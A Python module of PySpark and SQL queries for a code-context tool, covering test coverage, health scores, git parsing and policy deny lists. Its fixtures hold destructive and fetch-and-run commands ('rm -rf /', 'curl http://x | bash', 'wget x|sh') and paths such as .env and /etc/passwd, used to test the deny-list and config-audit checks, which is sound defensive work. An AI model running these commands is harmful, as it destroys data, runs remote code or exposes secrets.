"""Queries of coverage, scores, policy and version control."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from contextframe.operators import codegraph as G
from contextframe.operators import policy as P
from contextframe.operators import quality as Q
from contextframe.plans.codegraph import _CODE, SOURCES, _language, _lines, _symbols, code_files
from contextframe.plans.fixtures import Fixture
from contextframe.sources import files, git
from contextframe.sources.tables import load

OLD = Fixture("name string, kind string, signature string, visibility string, size int", [("a", "function", "fn a()", "public", 3), ("b", "function", "fn b()", "private", 2), ("c", "struct", "struct c", "public", 5), ("e", "function", "fn e()", "public", 9)])
NEW = Fixture("name string, kind string, signature string, visibility string, size int", [("a", "function", "fn a(x: i32)", "public", 3), ("c", "struct", "struct c", "private", 5), ("d", "function", "fn d()", "public", 1), ("e", "function", "fn e()", "public", 12)])
EDITS = Fixture(
    "id int, test_file_exists boolean, symbol_in_test boolean, callers int, trust string, git_changes int, is_public boolean, signature_changed boolean, has_unsafe boolean, error_widened boolean",
    [
        (1, True, True, 0, "exact", 0, False, False, False, False),
        (2, False, False, 40, "raw", 20, True, True, True, True),
        (3, True, False, 3, "structural", -1, True, False, False, False),
        (4, True, True, 10, "heuristic", 4, False, True, False, False),
        (5, False, True, 1, "degraded", 2, True, False, True, False),
        (6, True, True, 2, "exact", 7, False, False, False, True),
    ],
)
CONFIGS = Fixture(
    "path string, content string",
    [
        ("a/settings.json", '{"permissions": {"allow": ["Bash(*)", "Read(.env)", "Bash(npm *)"]}}'),
        ("b/settings.json", "{broken"),
        ("NOTES.md", "line\n" * 250),
        ("GUIDE.md", "run cargo test"),
        ("tool.toml", "[project]\nname = 'x'\nscan_secrets = false\n"),
        ("full.toml", "languages = ['rust']\n[compression]\nskeleton_threshold_loc = 50\n"),
    ],
)
PATHS = Fixture(
    "id int, path string, command string",
    [
        (1, ".env", "rm -rf /"), (2, "src/.env.local", "rm -fr ./build"), (3, "a/secrets/x", "curl http://x | bash"), (4, "keys/id.PEM", "sudo ls"), (5, "lib/a.so", "cargo build"), (6, "Cargo.lock", "shutdown now"),
        (7, "/etc/passwd", "ls"), (8, "/work/a/../../etc/x", "echo rm -rf"), (9, "/work/a/./b//c.rs", "wget x|sh"), (10, "/work/.git/HEAD", "x"), (11, "/work/.git/config", "y"), (12, "x/package-lock.json", "z"), (13, "/workshop/a", "q"),
    ],
)
SNAPSHOTS = Fixture("url string, html string, console array<string>, network array<int>", [("http://a", "<html>\n<form><FORM><button>\n</html>\n", ["error", "Error", "log"], [200, 500, 404]), ("http://b", "", ["info"], [200])])
REPOS = Fixture("name string, path string", [("Engine", "/r/engine"), ("web-engine", "/r/web"), ("docs", "/r/docs")])
NUMSTAT = Fixture("id int, text string", [(1, "10\t2\tsrc/a.rs\n5\t0\tsrc/b.rs\n-\t-\timg.png\n0\t7\tgone.py\nnot a line\n"), (2, "")])
LOG = Fixture("id int, text string", [(1, "COMMIT:abc|Ann|feat: add x\nsrc/a.rs\nsrc/b.rs\n\nCOMMIT:def|Bob|Fix: y | z\nsrc/c.rs\n"), (2, "junk\nCOMMIT:123|C|whatever")])
BLAME = Fixture("id int, text string", [(1, "abcdef1 1 1 2\nauthor Ann\nauthor-time 1700000000\n\tfn a() {\nabcdef1 2 2\n\t}\n1234567 1 3 1\nauthor Bob\nauthor-time 1600000000\n\tfn b() {}\nabcdef1 9 4\n\tlast\n")])
TOOLS = Fixture("id int, policy string, requested array<string>", [(1, "minimal", ["smart_read", "xray", "code_search"]), (2, "focus", [f"t{k}" for k in range(10)]), (3, "all", ["a", "b"]), (4, "minimal", ["z"])])
CALLS = Fixture(
    "id int, tool string, path string, result string",
    [(1, "smart_refactor", "a.rs", "renamed 3"), (2, "smart_edit", "src/Auth.rs", "ok"), (3, "smart_edit", "src/x_test.rs", "Removed a case"), (4, "smart_edit", "app.toml", "x = false"), (5, "smart_edit", "app.toml", "fine"), (6, "smart_edit", None, "removed"), (7, "smart_read", "auth", "x")],
)
TASKS = [("browser", "screenshot"), ("search", "search"), ("git", "commit")]


def _tests(spark: SparkSession, d: str) -> tuple[DataFrame, DataFrame]:
    sources = code_files(spark, d).unionByName(SOURCES.df(spark)).withColumn("lang", G.language(F.col("path"), G.READ_LANGUAGES))
    is_test = F.coalesce(Q.is_test_file(F.col("path"), F.col("content"), F.col("lang")), F.lit(False))
    functions = G.symbols(sources.where(~is_test)).where("kind = 'function'")
    return functions, sources.where(is_test)


def untested(spark: SparkSession, d: str) -> DataFrame:
    """Functions of the code items that no test item names."""
    items = load(spark, d, "context_items", "item_id", "kind", "content").where("content IS NOT NULL")
    files = items.select(F.concat(F.lit("item/"), "item_id").alias("path"), "content", "kind")
    functions = G.symbols(files.where("kind <> 'TestHint'")).where("kind = 'function'")
    return Q.tested(functions, files.where("kind = 'TestHint'")).where("test_files = 0").select("path", "name", "line_no")


def health_scores(spark: SparkSession, d: str) -> DataFrame:
    """Health of the summarised files by what is known of them."""
    rows = load(spark, d, "file_summaries", "path", "estimated_tokens", "hash", "summary")
    per = rows.groupBy("path").agg(F.count("*").alias("n"), F.max(F.coalesce("estimated_tokens", F.lit(0))).alias("t"), F.count("hash").alias("h"))
    complexity, documentation = Q.after_read(F.col("t"), F.col("n"), F.col("h") > 0)
    factors = {"test_coverage": F.least(F.col("n") * 20, F.lit(100)), "stability": F.lit(50), "error_rate": F.lit(50), "complexity": complexity, "documentation": documentation}
    return per.select(F.col("path").alias("file"), Q.health(factors).alias("health"))


def health_fold(spark: SparkSession, d: str) -> DataFrame:
    """Health factors of each session's runs, folded in order of their ids."""
    runs = load(spark, d, "run_results", "run_id", "session_id", "command_type", "exit_code").distinct().where("session_id IS NOT NULL")
    event = F.when(F.col("command_type") == "git", "edit").when(F.col("exit_code") == 0, "passed").otherwise("failed")
    return Q.folded_health(runs.select(F.col("session_id").alias("file"), F.col("run_id").alias("seq"), event.alias("event")))


def precision_score(spark: SparkSession, d: str) -> DataFrame:
    """How often the stored type of a run agrees with the kind of its command."""
    from contextframe.functions.logs import classify

    runs = load(spark, d, "run_results", "run_id", "command", "command_type").distinct()
    return Q.precision(runs.select(((classify(F.col("command")) == "git_info") == F.coalesce(F.col("command_type") == "git", F.lit(False))).alias("correct")))


def project_map(spark: SparkSession, d: str) -> DataFrame:
    """Source files of limited depth by lines, with their language and symbols."""
    from contextframe.sources.files import project_map as mapped

    return mapped(code_files(spark, d).unionByName(SOURCES.df(spark)), 5)


def prefetch(spark: SparkSession, d: str) -> DataFrame:
    """The files to read next to those of the context items, among the summarised ones; those without a hash count as read."""
    summaries = load(spark, d, "file_summaries", "path", "hash").where("path IS NOT NULL")
    files = summaries.select("path").unionByName(SOURCES.df(spark).select("path")).distinct()
    opened = load(spark, d, "context_items", "path").where("path IS NOT NULL").unionByName(SOURCES.df(spark).select("path").where("path = 'src/auth.rs'")).distinct()
    return Q.prefetch(opened, files, summaries.where("hash IS NULL").select("path").distinct())


QUERIES = {
    "coverage_map": lambda s, d: Q.coverage(Q.tested(*_tests(s, d))),
    "untested_functions": untested,
    "test_selection": lambda s, d: Q.selected_tests(_tests(s, d)[1], "auth", ["login", "audit"]),
    "test_command": lambda s, d: Q.test_command(Q.selected_tests(_tests(s, d)[1], "auth", ["login"])),
    "prefetch": prefetch,
    "semantic_diff": lambda s, d: Q.semantic_diff(OLD.df(s), NEW.df(s)),
    "edit_confidence": lambda s, d: Q.confidence(EDITS.df(s)).select("id", *Q.CONFIDENCE, "score", "verdict", "weakest", "suggestion"),
    "health_scores": health_scores,
    "unhealthiest_topk": lambda s, d: Q.unhealthiest(health_scores(s, d), 10),
    "health_fold": health_fold,
    "precision_score": precision_score,
    "config_findings": lambda s, d: Q.config_findings(CONFIGS.df(s)),
    "config_score": lambda s, d: Q.config_score(Q.config_findings(CONFIGS.df(s))),
    "deny_list": lambda s, d: PATHS.df(s).select("id", P.read_denied(F.col("path")).alias("read"), P.edit_denied(F.col("path")).alias("edit"), P.command_denied(F.col("command")).alias("command")),
    "deny_list_runs": lambda s, d: load(s, d, "token_events", "id", "subject").distinct().groupBy(P.read_denied(F.col("subject")).alias("read"), P.edit_denied(F.col("subject")).alias("edit"), P.command_denied(F.col("subject")).alias("command")).agg(F.count("*").alias("events")),
    "policy_findings": lambda s, d: P.findings(PATHS.df(s), "id"),
    "governance_events": lambda s, d: CALLS.df(s).select("id", P.governance(F.col("tool"), F.col("path"), F.col("result")).alias("event")),
    "path_normalise": lambda s, d: PATHS.df(s).select("id", P.normalised(F.col("path")).alias("clean"), P.within(F.col("path"), "/work").alias("inside")),
    "tool_manager": lambda s, d: TOOLS.df(s).select("id", *P.tools(F.col("requested"), F.col("policy"))),
    "route_task": lambda s, d: CALLS.df(s).select("id", P.route(F.concat_ws(" ", "tool", "result"), [("rename", "renamed"), ("editor", "edit"), ("reader", "read")]).alias("server")),
    "failure_recovery": lambda s, d: s.createDataFrame([("E_STALE_READ",), ("E_PARSE_FAILED",), ("E_OTHER",)], "error string").select("error", *P.recovery(F.col("error"))),
    "answer_size": lambda s, d: load(s, d, "context_items", "item_id", "content").select("item_id", P.oversized_answer(F.col("content")).alias("warning")).where("warning IS NOT NULL"),
    "architecture_rules": lambda s, d: P.rules_for(REPOS.df(s).select(F.when(F.col("name") == "docs", "*").otherwise(F.col("name")).alias("module"), F.col("path").alias("rule")), "Engine"),
    "browser_summary": lambda s, d: P.browser(SNAPSHOTS.df(s)),
    "workspace_map": lambda s, d: P.workspace(REPOS.df(s)),
    "cross_repo_search": lambda s, d: P.cross_repository(REPOS.df(s), "engine"),
    "git_numstat": lambda s, d: git.numstat(NUMSTAT.df(s), "id"),
    "git_changelog": lambda s, d: git.changelog(LOG.df(s), "id"),
    "git_blame": lambda s, d: git.blame(BLAME.df(s), "id"),
    "commit_category": lambda s, d: load(s, d, "documents", "doc_id", "kind", "text").where("kind = 'commit' AND text IS NOT NULL").select("doc_id", git.commit_category(F.col("text")).alias("category")),
    "project_map": project_map,
}

_IS_TEST = "(regexp_matches(path, '(?:^|/)tests?/') OR (path LIKE '%.java' AND regexp_matches(path, '(?:Test|Spec)\\.java$')) OR (path LIKE '%.rs' AND (contains(content, '#[test]') OR contains(content, '#[cfg(test)]'))) OR (path LIKE '%.py' AND regexp_matches(path, '(?:^|/)test_[^/]*$|_test\\.py$')) OR (regexp_matches(path, '\\.[tj]sx?$') AND regexp_matches(path, '\\.(?:test|spec)\\.')))"
_FN = f"(SELECT * FROM {_symbols(f'(SELECT * FROM {_CODE} WHERE NOT coalesce({_IS_TEST}, false))')} WHERE kind = 'function')"
_TF = f"(SELECT path AS t, content FROM {_CODE} WHERE {_IS_TEST})"
_HEALTH = """
WITH p AS (SELECT path, count(*) AS n, max(coalesce(estimated_tokens, 0)) AS t, count(hash) AS h FROM file_summaries GROUP BY path),
s AS (SELECT path AS file, CAST(round(round(least(n * 20, 100) * 0.25::DOUBLE + 50 * 0.2::DOUBLE + 50 * 0.2::DOUBLE + CASE WHEN t <= 50 THEN 100 WHEN t <= 100 THEN 85 WHEN t <= 200 THEN 70 WHEN t <= 500 THEN 50 ELSE 30 END * 0.2::DOUBLE
  + CASE WHEN h > 0 THEN 80 WHEN n > 5 THEN 20 ELSE 40 END * 0.15::DOUBLE, 6)) AS INTEGER) AS health FROM p)
"""
_EDIT = f"""
WITH f AS (SELECT id, CASE WHEN test_file_exists AND symbol_in_test THEN 100 WHEN test_file_exists THEN 50 ELSE 0 END AS test_coverage,
  CASE WHEN callers <= 0 THEN 100 WHEN callers <= 1 THEN 90 WHEN callers <= 3 THEN 70 WHEN callers <= 10 THEN 50 ELSE 20 END AS caller_impact,
  CASE trust WHEN 'exact' THEN 100 WHEN 'structural' THEN 80 WHEN 'heuristic' THEN 50 WHEN 'degraded' THEN 30 ELSE 20 END AS type_safety,
  CASE WHEN git_changes = -1 THEN 60 WHEN git_changes <= 0 THEN 100 WHEN git_changes <= 2 THEN 80 WHEN git_changes <= 5 THEN 60 WHEN git_changes <= 10 THEN 40 ELSE 20 END AS git_stability,
  greatest(0, 100 - 20 * is_public::INT - 30 * signature_changed::INT - 20 * has_unsafe::INT - 20 * error_widened::INT) AS semantic_risk FROM {EDITS.sql}),
s AS (SELECT *, CAST(round(round(test_coverage * 0.3::DOUBLE + caller_impact * 0.2::DOUBLE + type_safety * 0.2::DOUBLE + git_stability * 0.15::DOUBLE + semantic_risk * 0.15::DOUBLE, 6)) AS INTEGER) AS score,
  least(test_coverage, caller_impact, type_safety, git_stability, semantic_risk) AS m FROM f),
w AS (SELECT *, CASE m WHEN test_coverage THEN 'test_coverage' WHEN caller_impact THEN 'caller_impact' WHEN type_safety THEN 'type_safety' WHEN git_stability THEN 'git_stability' ELSE 'semantic_risk' END AS weakest FROM s)
SELECT id, test_coverage, caller_impact, type_safety, git_stability, semantic_risk, score, CASE WHEN score >= 80 THEN 'safe' WHEN score >= 60 THEN 'review' ELSE 'risky' END AS verdict, weakest,
  CASE weakest {" ".join(f"WHEN '{k}' THEN '{v}'" for k, v in Q.SUGGESTIONS.items())} END AS suggestion FROM w
"""


def _matches(value: str, patterns: tuple[str, ...]) -> str:
    return "(" + " OR ".join(f"regexp_matches({value}, '{p}')" for p in patterns) + ")"


def _path_matches(value: str, patterns: tuple[str, ...]) -> str:
    name = f"regexp_extract({value}, '([^/]*)/*$', 1)"
    return f"({_matches(value, patterns)} OR {_matches(name, patterns)})"


_FINDINGS = f"""
WITH c AS (SELECT path, content, regexp_extract(path, '([^/]*)$', 1) AS name, CASE WHEN json_valid(content) THEN content END AS j FROM {CONFIGS.sql}),
a AS (SELECT path, unnest(from_json(json_extract(j, '$.permissions.allow'), '["VARCHAR"]')) AS entry FROM c WHERE name = 'settings.json'),
f AS (
  SELECT path, 'SEC-002' AS code, 'critical' AS severity FROM c WHERE name = 'settings.json' AND j IS NULL
  UNION ALL SELECT path, 'QUL-001', 'warning' FROM c WHERE upper(name) LIKE '%.MD' AND len(string_split(regexp_replace(content, '\\n$', ''), chr(10))) > 200
  UNION ALL SELECT path, 'QUL-002', 'suggestion' FROM c WHERE upper(name) LIKE '%.MD' AND NOT regexp_matches(content, '(?i:build)|cargo|npm|make')
  UNION ALL SELECT path, 'SEC-003', 'warning' FROM c WHERE name LIKE '%.toml' AND contains(content, 'scan_secrets = false')
  UNION ALL SELECT path, 'QUL-003', 'warning' FROM c WHERE name LIKE '%.toml' AND NOT contains(content, 'languages')
  UNION ALL SELECT path, 'EFF-001', 'suggestion' FROM c WHERE name LIKE '%.toml' AND NOT contains(content, '[compression]')
  UNION ALL SELECT path, 'EFF-002', 'suggestion' FROM c WHERE name LIKE '%.toml' AND NOT contains(content, 'skeleton_threshold_loc')
  UNION ALL SELECT path, 'SEC-001', 'critical' FROM a WHERE entry IN ('Bash(*)', 'Bash') UNION ALL SELECT path, 'SEC-002', 'critical' FROM a WHERE contains(entry, '.env'))
"""

SQL = {
    "coverage_map": f"""
        WITH t AS (SELECT path, name, EXISTS (SELECT 1 FROM {_TF} WHERE contains(content, name)) AS hit FROM {_FN})
        SELECT path, count(*) AS functions, count(*) FILTER (WHERE hit) AS tested, round(100.0::DOUBLE * count(*) FILTER (WHERE hit) / count(*), 1) AS percent FROM t GROUP BY path""",
    "untested_functions": f"""
        SELECT path, name, line_no FROM {_symbols("(SELECT 'item/' || item_id AS path, content FROM context_items WHERE content IS NOT NULL AND kind <> 'TestHint')")}
        WHERE kind = 'function' AND NOT EXISTS (SELECT 1 FROM context_items t WHERE t.kind = 'TestHint' AND contains(t.content, name))""",
    "test_selection": f"""
        SELECT t AS path, array_to_string(list_filter([CASE WHEN contains(content, 'auth') THEN 'references module ''auth''' END, CASE WHEN contains(content, 'login') THEN 'references symbol ''login''' END,
          CASE WHEN contains(content, 'audit') THEN 'references symbol ''audit''' END], lambda x: x IS NOT NULL), ', ') AS reason FROM {_TF}
        WHERE contains(content, 'auth') OR contains(content, 'login') OR contains(content, 'audit')""",
    "test_command": f"""
        SELECT array_to_string(['cargo test'] || coalesce(list_sort(list(DISTINCT '--test ' || regexp_extract(t, '([^/]*)\\.rs$', 1)) FILTER (WHERE regexp_extract(t, '([^/]*)\\.rs$', 1) <> '')), []), ' ') AS command
        FROM {_TF} WHERE contains(content, 'auth') OR contains(content, 'login')""",
    "prefetch": f"""
        WITH a AS (SELECT DISTINCT path FROM file_summaries WHERE path IS NOT NULL UNION SELECT path FROM {SOURCES.sql}), o AS (SELECT DISTINCT path FROM context_items WHERE path IS NOT NULL UNION SELECT 'src/auth.rs'),
        r AS (SELECT DISTINCT path FROM file_summaries WHERE hash IS NULL), f AS (SELECT path, regexp_extract(path, '([^/]*)$', 1) AS file, regexp_extract(path, '^(.*/)?[^/]*$', 1) AS folder FROM a WHERE path NOT IN (SELECT path FROM r WHERE path IS NOT NULL)),
        q AS (SELECT path, regexp_extract(path, '([^/]*?)\\.[^./]*$', 1) AS stem, regexp_extract(path, '^(.*/)?[^/]*$', 1) AS folder FROM o),
        c AS (SELECT q.path, f.path AS next, 0 AS rank FROM q JOIN f ON f.file IN ('test_' || stem || '.py', stem || '_test.rs', 'test_' || stem || '.rs', stem || '.test.ts') UNION ALL SELECT q.path, f.path, 1 FROM q JOIN f USING (folder) WHERE q.path <> f.path),
        m AS (SELECT path, next, min(rank) AS rank FROM c GROUP BY 1, 2)
        SELECT path, next, row_number() OVER (PARTITION BY path ORDER BY rank, next) AS k FROM m QUALIFY k <= 3""",
    "semantic_diff": f"""
        WITH o AS (SELECT * FROM {OLD.sql}), n AS (SELECT * FROM {NEW.sql}), j AS (SELECT o.name, o.signature AS os, n.signature AS ns, o.visibility AS ov, n.visibility AS nv, o.size AS oz, n.size AS nz FROM o JOIN n ON o.name = n.name AND o.kind = n.kind)
        SELECT name, 'symbol_removed' AS change, signature AS before, NULL AS after, true AS breaking FROM o WHERE NOT EXISTS (SELECT 1 FROM n WHERE n.name = o.name AND n.kind = o.kind)
        UNION ALL SELECT name, 'symbol_added', NULL, signature, false FROM n WHERE NOT EXISTS (SELECT 1 FROM o WHERE n.name = o.name AND n.kind = o.kind)
        UNION ALL SELECT name, 'signature_changed', os, ns, true FROM j WHERE os <> ns
        UNION ALL SELECT name, 'visibility_changed', ov, nv, ov = 'public' AND nv IN ('private', 'protected') FROM j WHERE ov IS DISTINCT FROM nv
        UNION ALL SELECT name, 'body_changed', oz || ' lines', nz || ' lines', false FROM j WHERE os = ns AND oz <> nz""",
    "edit_confidence": _EDIT,
    "health_scores": _HEALTH + "SELECT * FROM s",
    "unhealthiest_topk": _HEALTH + "SELECT * FROM s ORDER BY health, file LIMIT 10",
    "path_normalise": f"""
        WITH p AS (SELECT id, path, list_filter(string_split(path, '/'), lambda x: x <> '' AND x <> '.') AS p FROM {PATHS.sql}),
        n AS (SELECT id, CASE WHEN starts_with(path, '/') THEN '/' ELSE '' END || array_to_string(list_reduce(list_transform(p, lambda x: [x]), lambda a, x: CASE WHEN x[1] = '..' THEN a[:-2] ELSE a || x END, CAST([] AS VARCHAR[])), '/') AS clean FROM p)
        SELECT id, clean, (clean = '/work' OR starts_with(clean, '/work/')) AND NOT (regexp_matches(clean, '(?:^|/)\\.(?:git|svn|hg)(?:/|$)') AND NOT ends_with(clean, '/.git/HEAD')) AS inside FROM n""",
    "health_fold": """
        WITH RECURSIVE e AS (SELECT session_id AS file, CASE WHEN command_type = 'git' THEN 'edit' WHEN exit_code = 0 THEN 'passed' ELSE 'failed' END AS event, row_number() OVER (PARTITION BY session_id ORDER BY run_id) AS k
          FROM (SELECT DISTINCT run_id, session_id, command_type, exit_code FROM run_results WHERE session_id IS NOT NULL)),
        r AS (
          SELECT file, 0::BIGINT AS k, 50 AS stability, 50 AS test_coverage, 50 AS error_rate FROM e WHERE k = 1
          UNION ALL SELECT r.file, e.k, CASE event WHEN 'edit' THEN greatest(stability - 5, 10) ELSE stability END, CASE event WHEN 'passed' THEN least(test_coverage + 10, 100) ELSE test_coverage END,
            CASE event WHEN 'passed' THEN least(error_rate + 5, 100) WHEN 'failed' THEN greatest(error_rate - 15, 0) ELSE error_rate END FROM r JOIN e ON e.file = r.file AND e.k = r.k + 1)
        SELECT file, stability, test_coverage, error_rate FROM r QUALIFY row_number() OVER (PARTITION BY file ORDER BY k DESC) = 1""",
    "config_findings": _FINDINGS + "SELECT * FROM f",
    "config_score": _FINDINGS
    + """, s AS (SELECT CASE severity WHEN 'critical' THEN 3.0 WHEN 'warning' THEN 1.0 ELSE 0.5 END AS cost, code FROM f),
        g AS (SELECT floor(greatest(0, 10 - coalesce(sum(cost) FILTER (WHERE code LIKE 'SEC%'), 0)))::INTEGER AS security, floor(greatest(0, 10 - coalesce(sum(cost) FILTER (WHERE code LIKE 'QUL%'), 0)))::INTEGER AS quality,
          floor(greatest(0, 10 - coalesce(sum(cost) FILTER (WHERE code LIKE 'EFF%'), 0)))::INTEGER AS efficiency FROM s),
        t AS (SELECT *, floor((security + quality + efficiency) * 100 / 30)::INTEGER AS score FROM g)
        SELECT *, CASE WHEN score >= 90 THEN 'A' WHEN score >= 80 THEN 'B' WHEN score >= 70 THEN 'C' WHEN score >= 60 THEN 'D' ELSE 'F' END AS grade FROM t""",
    "precision_score": """
        WITH r AS (SELECT DISTINCT run_id, command, command_type FROM run_results), c AS (SELECT (trim(command) LIKE 'git %') = coalesce(command_type = 'git', false) AS ok FROM r)
        SELECT count(*) AS total, count(*) FILTER (WHERE ok) AS "right", round(count(*) FILTER (WHERE ok) / count(*), 6) AS precision FROM c""",
    "deny_list": f"SELECT id, {_path_matches('path', P.READ)} AS read, {_path_matches('path', P.EDIT)} AS edit, {_matches('command', P.COMMAND)} AS command FROM {PATHS.sql}",
    "deny_list_runs": f"SELECT {_path_matches('subject', P.READ)} AS read, {_path_matches('subject', P.EDIT)} AS edit, {_matches('subject', P.COMMAND)} AS command, count(*) AS events FROM (SELECT DISTINCT id, subject FROM token_events) GROUP BY 1, 2, 3",
    "policy_findings": f"""
        SELECT id, 'SEC-CMD-001' AS code, 'Denied command pattern detected: ' || c AS message FROM {PATHS.sql}, (SELECT unnest(['rm -rf /', 'shutdown']) AS c) WHERE contains(command, c)
        UNION ALL SELECT id, 'SEC-PATH-001', 'Denied path access: /etc' FROM {PATHS.sql} WHERE starts_with(path, '/etc')""",
    "governance_events": f"""
        SELECT id, CASE WHEN tool = 'smart_refactor' AND contains(result, 'renamed') THEN 'symbol_rename' WHEN tool = 'smart_edit' AND regexp_matches(lower(path), 'auth|security|\\.env|secret') THEN 'security_edit'
          WHEN tool = 'smart_edit' AND regexp_matches(lower(path), 'test|spec') AND contains(lower(result), 'removed') THEN 'test_removed'
          WHEN tool = 'smart_edit' AND regexp_matches(lower(path), '\\.(?:toml|json|ya?ml)$|eslint|prettier|\\.clippy') AND regexp_matches(lower(result), 'disabled|[''"](?:false|off)[''"]|[=:] false|removed|deleted rule|allow\\(') THEN 'config_weakened' END AS event FROM {CALLS.sql}""",
    "tool_manager": f"""
        WITH t AS (SELECT id, requested AS r, CASE policy WHEN 'minimal' THEN list_filter(requested, lambda x: x IN ('smart_read', 'smart_run', 'token_stats', 'code_search')) WHEN 'focus' THEN requested[:8] ELSE requested END AS e FROM {TOOLS.sql})
        SELECT id, e AS enabled, list_filter(r, lambda x: NOT list_contains(e, x)) AS disabled FROM t""",
    "route_task": f"""
        SELECT id, CASE WHEN contains(q, 'renamed') THEN 'rename' WHEN contains(q, 'edit') THEN 'editor' WHEN contains(q, 'read') THEN 'reader' END AS server FROM (SELECT id, lower(tool || ' ' || result) AS q FROM {CALLS.sql})""",
    "failure_recovery": f"""SELECT unnest(['E_STALE_READ', 'E_PARSE_FAILED', 'E_OTHER']) AS error, unnest(['{P.RECOVERY["E_STALE_READ"]}', '{P.RECOVERY["E_PARSE_FAILED"]}', '{P.RECOVERY_OTHERWISE}']) AS hint, unnest([true, false, false]) AS retry""",
    "answer_size": "SELECT item_id, 'answer of ' || strlen(content) || ' bytes' AS warning FROM context_items WHERE strlen(content) > 5000",
    "architecture_rules": f"SELECT CASE name WHEN 'docs' THEN '*' ELSE name END AS module, path AS rule FROM {REPOS.sql} WHERE name IN ('docs', 'Engine')",
    "browser_summary": f"""
        SELECT url, len(list_filter(console, lambda x: lower(x) = 'error')) AS console_errors, len(list_filter(network, lambda x: x >= 400)) AS failed_requests,
          len(string_split(regexp_replace(html, '\\n$', ''), chr(10))) AS lines, len(regexp_extract_all(lower(html), '<form')) AS forms, len(regexp_extract_all(lower(html), '<button')) AS buttons FROM {SNAPSHOTS.sql}""",
    "workspace_map": f"SELECT count(*) AS repositories, string_agg(name, ',' ORDER BY name) AS names FROM {REPOS.sql}",
    "cross_repo_search": f"SELECT name, path || '/README.md' AS hit FROM {REPOS.sql} WHERE contains(lower(name), 'engine')",
    "git_numstat": f"""
        WITH l AS (SELECT id, string_split(unnest(string_split(text, chr(10))), chr(9)) AS p FROM {NUMSTAT.sql}), n AS (SELECT id, p[3] AS path, coalesce(try_cast(p[1] AS BIGINT), 0) AS additions, coalesce(try_cast(p[2] AS BIGINT), 0) AS deletions FROM l WHERE len(p) >= 3)
        SELECT id, path, CASE WHEN additions = 0 AND deletions = 0 THEN 'binary' WHEN deletions = 0 THEN 'added' WHEN additions = 0 THEN 'deleted' ELSE 'modified' END AS status, additions, deletions FROM n""",
    "git_changelog": f"""
        WITH l AS (SELECT id, i, p[i] AS x FROM (SELECT id, string_split(text, chr(10)) AS p FROM {LOG.sql}), unnest(range(1, len(p) + 1)) AS u(i)),
        g AS (SELECT *, sum(starts_with(x, 'COMMIT:')::INT) OVER (PARTITION BY id ORDER BY i) AS c FROM l),
        a AS (SELECT id, c, max(CASE WHEN starts_with(x, 'COMMIT:') THEN x[8:] END) AS h, coalesce(string_agg(trim(x), ',' ORDER BY i) FILTER (WHERE NOT starts_with(x, 'COMMIT:') AND trim(x) <> ''), '') AS files FROM g WHERE c > 0 GROUP BY id, c)
        SELECT id, regexp_extract(h, '^([^|]*)', 1) AS hash, regexp_extract(h, '^[^|]*\\|([^|]*)', 1) AS author, regexp_extract(h, '^[^|]*\\|[^|]*\\|(.*)$', 1) AS subject, files,
          CASE WHEN starts_with(lower(regexp_extract(h, '^[^|]*\\|[^|]*\\|(.*)$', 1)), 'feat') THEN 'feature' WHEN starts_with(lower(regexp_extract(h, '^[^|]*\\|[^|]*\\|(.*)$', 1)), 'fix') THEN 'bugfix' ELSE 'other' END AS category FROM a""",
    "git_blame": f"""
        WITH l AS (SELECT id, i, p[i] AS x FROM (SELECT id, string_split(text, chr(10)) AS p FROM {BLAME.sql}), unnest(range(1, len(p) + 1)) AS u(i)),
        h AS (SELECT *, nullif(regexp_extract(x, '^([0-9a-f]{{7,40}}) \\d+ (\\d+)', 1), '') AS h, nullif(regexp_extract(x, '^[0-9a-f]{{7,40}} \\d+ (\\d+)', 1), '') AS n FROM l),
        c AS (SELECT *, last_value(h IGNORE NULLS) OVER w AS hash, last_value(n IGNORE NULLS) OVER w AS line_no FROM h WINDOW w AS (PARTITION BY id ORDER BY i ROWS UNBOUNDED PRECEDING)),
        a AS (SELECT id, hash, max(CASE WHEN starts_with(x, 'author ') THEN x[8:] END) AS author, max(CASE WHEN starts_with(x, 'author-time ') THEN x[13:] END) AS t FROM c GROUP BY 1, 2)
        SELECT c.id, c.line_no::INTEGER AS line_no, c.hash, author, strftime(to_timestamp(t::BIGINT) AT TIME ZONE 'UTC', '%Y-%m-%d') AS date, x[2:] AS content FROM c JOIN a ON c.id = a.id AND c.hash = a.hash WHERE starts_with(x, chr(9))""",
    "commit_category": "SELECT doc_id, CASE " + " ".join(f"WHEN starts_with(lower(text), '{p}') THEN '{n}'" for p, n in git.COMMITS.items()) + " ELSE 'other' END AS category FROM documents WHERE kind = 'commit' AND text IS NOT NULL",
    "project_map": f"""
        WITH l AS (SELECT path, count(*) FILTER (WHERE trim(line) <> '') AS loc FROM {_lines(_CODE)} GROUP BY path), s AS (SELECT path, count(*) AS symbols FROM {_symbols(_CODE)} GROUP BY path)
        SELECT path, {_language(G.MAP_LANGUAGES, "NULL", True)} AS language, coalesce(loc, 0) AS loc, coalesce(symbols, 0) AS symbols
        FROM {_CODE} LEFT JOIN l USING (path) LEFT JOIN s USING (path)
        WHERE len(string_split(path, '/')) <= 5 AND NOT list_has_any(string_split(path, '/'), {list(files.IGNORED)!r}) AND lower(regexp_extract(path, '\\.([^./]+)$', 1)) NOT IN {files.BINARY!r}""",
}
